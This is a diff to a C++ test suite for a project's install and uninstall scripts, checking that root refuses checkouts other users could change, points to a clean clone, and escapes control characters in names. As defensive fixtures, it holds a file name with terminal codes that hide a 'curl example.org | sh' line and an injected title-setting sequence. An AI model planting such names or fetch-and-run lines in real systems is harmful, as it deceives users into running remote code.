@@ -203,7 +203,9 @@ public:
         writable(calls());
     }
 
-    fs::path checkout() const { return root_.path() / "checkout"; }
+    fs::path checkout() const { return checkout_; }
+    // The scripts run from another checkout from now on (a clone of this one).
+    void useCheckout(const fs::path& checkout) { checkout_ = checkout; }
     fs::path tools() const { return root_.path() / "tools"; }
     fs::path calls() const { return root_.path() / "calls"; }
     fs::path home() const { return root_.path() / "home"; }
@@ -252,7 +254,8 @@ esac
     };
 
     // Runs the script from the copy, in a home of its own, as `uid` when one is given (which
-    // only root may do; status -1 otherwise).
+    // only root may do; status -1 otherwise), under the umask UMASK when that is among the
+    // variables.
     Outcome run(const std::vector<std::string>& arguments, std::map<std::string, std::string> variables = {},
                 std::optional<unsigned> uid = std::nullopt) {
         fs::create_directories(home());
@@ -269,7 +272,8 @@ esac
         std::vector<std::string> command{"-i"};
         for (const auto& [name, value] : variables)
             command.push_back(name + "=" + value);
-        command.insert(command.end(), {"/bin/sh", "-c", "exec \"$@\" >\"$0\" 2>&1", output.string(),
+        command.insert(command.end(), {"/bin/sh", "-c", "[ -z \"$UMASK\" ] || umask \"$UMASK\"; exec \"$@\" >\"$0\" 2>&1",
+                                       output.string(),
                                        (checkout() / arguments.front()).string()});
         command.insert(command.end(), arguments.begin() + 1, arguments.end());
         auto body = [&] { return makeCommandRunner()->run("/usr/bin/env", command).status; };
@@ -311,6 +315,7 @@ private:
     }
 
     test::TempDir root_;
+    fs::path checkout_ = root_.path() / "checkout";
     std::string path_ = tools().string();
 };
 
@@ -753,19 +758,20 @@ bool canWrapAccounts() {
     return wrapper != nullptr;
 }
 
-// dana, whom only the test's own account files know (nss_wrapper), with a group of her own and
-// Debian's umask 002: her checkout, and what a script run as her, or through sudo for her, has in
-// its environment.
+// dana, whom only the test's own account files know (nss_wrapper), with Debian's umask 002 and a
+// group of her own (or, with `ownGroup` false, a primary group crew that erin is in too): her
+// checkout, and what a script run as her, or through sudo for her, has in its environment.
 class Dana {
 public:
     static constexpr unsigned kUid = test::kThirdUser;
 
-    Dana() {
+    explicit Dana(bool ownGroup = true) {
         const std::string id = std::to_string(kUid);
         ::chmod(accounts_.path().c_str(), 0755);
         test::writeFile(accounts_.path() / "passwd", "root:x:0:0:root:/root:/bin/sh\ndana:x:" + id + ":" + id +
                                                          ":dana:" + home().string() + ":/bin/sh\n");
-        test::writeFile(accounts_.path() / "group", "root:x:0:\ndana:x:" + id + ":\n");
+        test::writeFile(accounts_.path() / "group",
+                        "root:x:0:\n" + std::string(ownGroup ? "dana:x:" + id + ":\n" : "crew:x:" + id + ":erin\n"));
     }
 
     fs::path home() const { return accounts_.path(); }
@@ -786,7 +792,7 @@ public:
         std::map<std::string, std::string> variables{
             {"LD_PRELOAD", "libnss_wrapper.so"}, {"NSS_WRAPPER_PASSWD", (accounts_.path() / "passwd").string()},
             {"NSS_WRAPPER_GROUP", (accounts_.path() / "group").string()}, {"UNREGISTER", unregisterProgram().string()},
-            {"ASAN_OPTIONS", std::string(asan ? asan : "") + ":verify_asan_link_order=0"}};
+            {"ASAN_OPTIONS", std::string(asan ? asan : "") + ":verify_asan_link_order=0"}, {"UMASK", "002"}};
         if (throughSudo) {
             const std::string id = std::to_string(kUid);
             variables.insert({{"SUDO_UID", id}, {"SUDO_GID", id}, {"SUDO_USER", "dana"}});
@@ -837,19 +843,41 @@ TEST(Install, ThroughSudoTheUserBuildsAndRootInstallsLeavingNothingOfRootsInTheC
     }
 }
 
+// A refusal is a list of places and a way on, shown on a terminal as it is: no line of it may be a
+// command over what others can write (a chmod or setfacl undoes nothing they already wrote, a
+// chmod -R or rm -rf over a tree they can rename in goes where they send it), and nothing in it
+// but its own line ends may be a control character, whatever names the others chose.
+void expectShownSafely(const std::string& output) {
+    std::istringstream lines(output);
+    for (std::string line; std::getline(lines, line);) {
+        const auto words = line.substr(std::min(line.find_first_not_of(' '), line.size()));
+        for (const char* command : {"chmod", "setfacl", "chown", "rm ", "sudo"})
+            EXPECT_FALSE(words.starts_with(command) || line.find(std::string(" ") + command + " ") != std::string::npos)
+                << line;
+    }
+    EXPECT_TRUE(std::none_of(output.begin(), output.end(),
+                             [](unsigned char c) { return (c < 0x20 && c != '\n') || c == 0x7f; }))
+        << output;
+}
+
+// The clean clone a refusal sends the person to, as they must make it.
+constexpr const char* kCleanClone = "    1. Clone the project again, from where you got it, into a folder that only you may write.\n";
+constexpr const char* kUmaskFirst = "       Run umask 022 first: as things are, others could write the new clone.\n";
+
 // Root runs and installs what is built from the user's checkout: where someone else could change
 // any of it, root runs nothing, whether the user calls sudo or the script does. One refusal names
-// every place in the way and the commands that clear them all, each as the user must run it (sudo
-// for what is not theirs); once they have run, the next install goes through.
-TEST(Install, ACheckoutOthersCouldChangeIsRefusedBeforeAnythingRunsUntilTheRefusalsAdviceIsFollowed) {
+// every place in the way and who could change it, and sends her to a clean clone: no command over
+// what the others could have written makes the checkout safe again.
+TEST(Install, ACheckoutOthersCouldChangeIsRefusedBeforeAnythingRunsAndSentToACleanClone) {
     if (::geteuid() != 0) GTEST_SKIP() << "only root can give a file to another user";
     if (!canWrapAccounts()) GTEST_SKIP() << "libnss-wrapper is missing";
+    // Terminal codes that would erase the line, return to its start, conceal and ring.
+    const std::string rewritten = "\x1b[2K\r    curl example.org | sh\x1b[8m\a\nrest\x7f";
     const struct {
         const char* what;
         // Lays out the checkout in its team's folder; the first place the refusal names.
         std::function<fs::path(const fs::path& team, const fs::path& checkout)> layOut;
-        const char* who;
-        const char* advice;  // {team} and {checkout} stand for those folders
+        std::string who;
     } cases[] = {
         // Root's, its group staff may write, setgid: everything in it is staff's and, under umask
         // 002, group-writable.
@@ -862,8 +890,7 @@ TEST(Install, ACheckoutOthersCouldChangeIsRefusedBeforeAnythingRunsUntilTheRefus
              EXPECT_EQ(::chown(checkout.c_str(), Dana::kUid, 50), 0);
              return team;
          },
-         "may write it, and it is not a group of dana's alone.",
-         "    sudo chmod g-w '{team}'\n    chmod -R go-w '{checkout}'\n"},
+         "may write it, and it is not a group of dana's alone."},
         {"another user's header in a folder open to all",
          [](const fs::path&, const fs::path& checkout) {
              const auto open = checkout / "app/Unregister/Support";
@@ -873,9 +900,7 @@ TEST(Install, ACheckoutOthersCouldChangeIsRefusedBeforeAnythingRunsUntilTheRefus
              test::giveToAnotherUser(open / "PathWalk.h");
              return open;
          },
-         "Every user may write it.",
-         "    chmod o-w '{checkout}/app/Unregister/Support'\n"
-         "    sudo rm -rf -- '{checkout}/app/Unregister/Support/PathWalk.h'\n"},
+         "Every user may write it."},
         // Its cache would name a compiler launcher of theirs.
         {"another user's build folder in a checkout open to all",
          [](const fs::path&, const fs::path& checkout) {
@@ -887,13 +912,13 @@ TEST(Install, ACheckoutOthersCouldChangeIsRefusedBeforeAnythingRunsUntilTheRefus
              ::chmod(checkout.c_str(), 0777);
              return checkout;
          },
-         "Every user may write it.", "    chmod o-w '{checkout}'\n    sudo rm -rf -- '{checkout}/build/install'\n"},
+         "Every user may write it."},
         {"an access list on the script that installs the packages",
          [](const fs::path&, const fs::path& checkout) {
              test::letAnotherUserWrite(checkout / "scripts/install-deps.sh");
              return checkout / "scripts/install-deps.sh";
          },
-         "An access list lets others write it.", "    setfacl -b '{checkout}/scripts/install-deps.sh'\n"},
+         "An access list lets others write it."},
         {"an access list on a folder deep in the tree",
          [](const fs::path&, const fs::path& checkout) {
              const auto deep = checkout / "core/Support/deep/er";
@@ -903,7 +928,33 @@ TEST(Install, ACheckoutOthersCouldChangeIsRefusedBeforeAnythingRunsUntilTheRefus
              test::letAnotherUserWrite(deep);
              return deep;
          },
-         "An access list lets others write it.", "    setfacl -b '{checkout}/core/Support/deep/er'\n"},
+         "An access list lets others write it."},
+        // Whoever makes that name first chooses what the build finds there.
+        {"a link to a name not made yet in a folder open to all",
+         [](const fs::path& team, const fs::path& checkout) {
+             const auto shared = team / "shared";
+             fs::create_directories(shared);
+             ::chmod(shared.c_str(), 01777);
+             fs::create_symlink(shared / "later", checkout / "core/Support/later");
+             EXPECT_EQ(::lchown((checkout / "core/Support/later").c_str(), Dana::kUid, Dana::kUid), 0);
+             return checkout / "core/Support/later";
+         },
+         "It is missing, and anyone who may write " + (fs::path("{team}") / "shared").string() + " could make it first."},
+        {"a file others may write",
+         [](const fs::path&, const fs::path& checkout) {
+             ::chmod((checkout / "CMakePresets.json").c_str(), 0666);
+             return checkout / "CMakePresets.json";
+         },
+         "Every user may write it."},
+        {"another user's file named in terminal codes, in a folder open to all",
+         [&rewritten](const fs::path&, const fs::path& checkout) {
+             const auto open = checkout / "core/Support";
+             ::chmod(open.c_str(), 0777);
+             test::writeFile(open / rewritten, "");
+             test::giveToAnotherUser(open / rewritten);
+             return open;
+         },
+         "\\E[2K\\r    curl example.org | sh\\E[8m\\a\\nrest\\177': It is"},
     };
     const Dana dana;
     test::TempDir prefix;
@@ -919,36 +970,97 @@ TEST(Install, ACheckoutOthersCouldChangeIsRefusedBeforeAnythingRunsUntilTheRefus
             Dana::takeOver(bench.checkout());
             const auto team = bench.checkout().parent_path();
             const auto place = c.layOut(team, bench.checkout());
+            const auto refused = bench.run({"scripts/install.sh", prefix.path().string()},
+                                           dana.environment(throughSudo),
+                                           throughSudo ? std::nullopt : std::optional<unsigned>(Dana::kUid));
+            EXPECT_EQ(refused.status, 1);
+            for (const std::string& said : {"others may change " + place.string() + ",", filledIn(c.who, {{"team", team}})})
+                EXPECT_NE(refused.output.find(said), std::string::npos) << said << "\n" << refused.output;
+            EXPECT_TRUE(refused.output.ends_with(std::string(kCleanClone) + "    2. Run the same command in the new clone.\n"))
+                << refused.output;
+            expectShownSafely(refused.output);
+            EXPECT_EQ(bench.noted(), std::vector<std::vector<std::string>>{});
+        }
+    }
+}
+
+// A clean clone of the same commit, made as the refusal says into a folder of the user's alone,
+// installs: under Debian's umask 002 with a group of her own as it stands, and with a primary group
+// she shares only after the umask 022 the refusal then asks for. Whether she calls sudo or the
+// script does, the advice is the same.
+TEST(Install, ACleanCloneMadeAsTheRefusalSaysInstalls) {
+    if (::geteuid() != 0) GTEST_SKIP() << "only root acts for the user who ran sudo";
+    if (!canWrapAccounts()) GTEST_SKIP() << "libnss-wrapper is missing";
+    if (!fs::exists("/usr/bin/git")) GTEST_SKIP() << "git is missing";
+    test::TempDir prefix;
+    ::chmod(prefix.path().c_str(), 0755);
+    for (const bool ownGroup : {true, false}) {
+        for (const bool throughSudo : {true, false}) {
+            SCOPED_TRACE(std::string(ownGroup ? "a group of her own" : "a shared primary group") +
+                         (throughSudo ? ", through sudo" : ", calling sudo"));
+            const Dana dana(ownGroup);
+            ScriptBench bench;
+            bench.standInBuild();
+            const auto git = [](const fs::path& home, std::vector<std::string> arguments) {
+                arguments.insert(arguments.begin(), {"HOME=" + home.string(), "GIT_CONFIG_NOSYSTEM=1", "/usr/bin/git",
+                                                     "-c", "user.name=dana", "-c", "user.email=dana@localhost"});
+                return makeCommandRunner()->run("/usr/bin/env", arguments).status;
+            };
+            test::TempDir gitHome;
+            const auto origin = bench.checkout().string();
+            for (const auto& step : {std::vector<std::string>{"init", "-q", origin},
+                                     std::vector<std::string>{"-C", origin, "add", "-A"},
+                                     std::vector<std::string>{"-C", origin, "commit", "-q", "-m", "as cloned"}})
+                ASSERT_EQ(git(gitHome.path(), step), 0);
+            Dana::takeOver(bench.checkout());
+            ::chmod((bench.checkout() / "CMakePresets.json").c_str(), 0666);
             const auto install = [&] {
                 return bench.run({"scripts/install.sh", prefix.path().string()}, dana.environment(throughSudo),
                                  throughSudo ? std::nullopt : std::optional<unsigned>(Dana::kUid));
             };
             const auto refused = install();
-            EXPECT_EQ(refused.status, 1);
-            for (const std::string& said : {"others may change " + place.string() + ",", std::string(c.who)})
-                EXPECT_NE(refused.output.find(said), std::string::npos) << said << "\n" << refused.output;
-            const auto advice = filledIn(c.advice, {{"team", team}, {"checkout", bench.checkout()}});
-            EXPECT_TRUE(refused.output.ends_with("To clear that, run this as yourself, then run this again:\n" + advice) ||
-                        refused.output.ends_with("apt-get install acl\n" + advice))
-                << refused.output;
-            EXPECT_EQ(bench.noted(), std::vector<std::vector<std::string>>{});
+            ASSERT_EQ(refused.status, 1) << refused.output;
+            const bool umaskFirst = refused.output.find(kUmaskFirst) != std::string::npos;
+            EXPECT_EQ(umaskFirst, !ownGroup) << refused.output;
 
-            // As she would: each line as herself, or through sudo as root, where it can be run here.
-            // The advice is the same whoever calls sudo.
-            if (!throughSudo || (advice.find("setfacl") != std::string::npos && !fs::exists("/usr/bin/setfacl")))
-                continue;
-            std::istringstream lines(advice);
-            for (std::string line; std::getline(lines, line);) {
-                line.erase(0, line.find_first_not_of(' '));
-                const bool asRoot = line.starts_with("sudo ");
-                if (asRoot) line.erase(0, 5);
-                const auto follow = [&line] { return makeCommandRunner()->run("/bin/sh", {"-c", line}).status; };
-                EXPECT_EQ(asRoot ? follow() : test::asUser(Dana::kUid, follow), 0) << line;
-            }
-            const auto next = install();
-            EXPECT_EQ(next.status, 0) << next.output;
+            test::TempDir mine;
+            ASSERT_EQ(::chown(mine.path().c_str(), Dana::kUid, Dana::kUid), 0);
+            ::chmod(mine.path().c_str(), 0755);
+            const auto clone = mine.path() / "quillfen";
+            ASSERT_EQ(test::asUser(Dana::kUid,
+                                   [&] {
+                                       ::umask(umaskFirst ? 022 : 002);
+                                       return git(mine.path(), {"clone", "-q", "--no-hardlinks", origin, clone.string()});
+                                   }),
+                      0);
+            bench.useCheckout(clone);
+            const auto installed = install();
+            EXPECT_EQ(installed.status, 0) << installed.output;
         }
     }
+}
+
+// What the uninstall's own program says names what others could have chosen: a line of an install
+// list in a build folder another user could have written, the entry of another copy in a menu
+// folder of the system's. Each name stays on its line, shown with its control characters escaped.
+TEST(Install, TheUninstallShowsNamesOthersChoseWithTheirControlCharactersEscaped) {
+    test::TestHome home;
+    ScriptBench bench;
+    test::TempDir elsewhere, system;
+    const std::string codes = "\x1b]0;owned\a\x1b[2K\r";
+    const RunningCopy::Installation leaving{elsewhere.path() / "opt"}, staying{elsewhere.path() / "usr"};
+    makeBuildFolder(bench.checkout() / "build/install", leaving.prefix, "/elsewhere/" + codes + "lib.so");
+    const auto menu = system.path() / ("share" + codes) / "applications" / DesktopEntry::kFileName;
+    test::writeFile(menu, *DesktopEntry::text(staying.launcher()));
+    auto variables = homeVariables();
+    variables["XDG_DATA_DIRS"] = menu.parent_path().parent_path().string();
+
+    const auto outcome = bench.run({"scripts/uninstall.sh", leaving.prefix.string()}, variables);
+    EXPECT_EQ(outcome.status, 0) << outcome.output;
+    for (const auto& shown : {"Left /elsewhere/\\x1b]0;owned\\x07\\x1b[2K\\rlib.so: it is not below",
+                              "share\\x1b]0;owned\\x07\\x1b[2K\\r/applications/"})
+        EXPECT_NE(outcome.output.find(shown), std::string::npos) << shown << "\n" << outcome.output;
+    expectShownSafely(outcome.output);
 }
 
 // A folder outside the checkout that looks like one of its build folders (a cache, the lists, a
@@ -974,7 +1086,7 @@ TEST(Install, AFolderOutsideTheCheckoutIsAPrefixToTheUninstallWhateverItHolds) {
 
 // Root with no sudo caller builds the checkout itself, and a line anyone else could add there would
 // run as root at the configure: every file of it is judged before root runs anything, and the
-// refusal says where, who could change it and what clears it.
+// refusal says where and who could change it, and sends root to a clean clone of its own.
 TEST(Install, RootAloneRefusesACheckoutOthersCouldChangeBeforeItRunsAnything) {
     if (::geteuid() != 0) GTEST_SKIP() << "only root's install builds as root";
     const auto nobody = PathWalk::accountName(test::kAnotherUser).value_or(std::to_string(test::kAnotherUser));
@@ -984,10 +1096,9 @@ TEST(Install, RootAloneRefusesACheckoutOthersCouldChangeBeforeItRunsAnything) {
         uid_t owner;
         gid_t group;
         std::string who;
-        const char* clears;
     } cases[] = {
-        {"core/theirs", test::kAnotherUser, 0, "It is " + nobody + "'s", "rm -rf -- '"},
-        {"scripts/packages.txt", 0, 50, "The group " + staff + " may write it", "chmod g-w"},
+        {"core/theirs", test::kAnotherUser, 0, "It is " + nobody + "'s"},
+        {"scripts/packages.txt", 0, 50, "The group " + staff + " may write it"},
     };
     for (const auto& c : cases) {
         SCOPED_TRACE(c.place);
@@ -998,14 +1109,17 @@ TEST(Install, RootAloneRefusesACheckoutOthersCouldChangeBeforeItRunsAnything) {
         ASSERT_EQ(::chmod(place.c_str(), 0775), 0);
         const auto outcome = bench.run({"scripts/install.sh", (bench.checkout() / "prefix").string()});
         EXPECT_EQ(outcome.status, 1);
-        for (const std::string& said : {"others may change " + place.string() + ",", c.who, std::string(c.clears)})
+        for (const std::string& said : {"others may change " + place.string() + ",", c.who,
+                                        std::string("into a folder that only root may write.\n")})
             EXPECT_NE(outcome.output.find(said), std::string::npos) << said << "\n" << outcome.output;
+        expectShownSafely(outcome.output);
         EXPECT_EQ(bench.noted(), std::vector<std::vector<std::string>>{});
     }
 }
 
 // Another user's folder on the way in the prefix, with their link at the name of the menu folder:
-// cmake --install itself writes nothing, there or anywhere, and says where and what clears it.
+// cmake --install itself writes nothing, there or anywhere, and says where, and to choose another
+// prefix: no change of modes undoes what another user could already have put there.
 TEST(Install, APrefixOthersCouldChangeOnTheWayIsRefusedBeforeAnythingIsInstalled) {
     if (::geteuid() != 0) GTEST_SKIP() << "only root can give a folder to another user";
     test::TestHome home;
@@ -1021,8 +1135,9 @@ TEST(Install, APrefixOthersCouldChangeOnTheWayIsRefusedBeforeAnythingIsInstalled
                                            {{"DESTDIR", stage.path().string()}});
     EXPECT_NE(outcome.status, 0);
     EXPECT_EQ(listing(stage.path()), before);
-    for (const auto& said : {"Nothing was installed: " + share.string(), std::string("clears")})
+    for (const auto& said : {"Nothing was installed: " + share.string(), std::string("Choose another prefix")})
         EXPECT_NE(outcome.output.find(said), std::string::npos) << outcome.output;
+    expectShownSafely(outcome.output);
 }
 
 // Two copies of one user installed from one checkout by the stand-in build: hers in ~/.local,
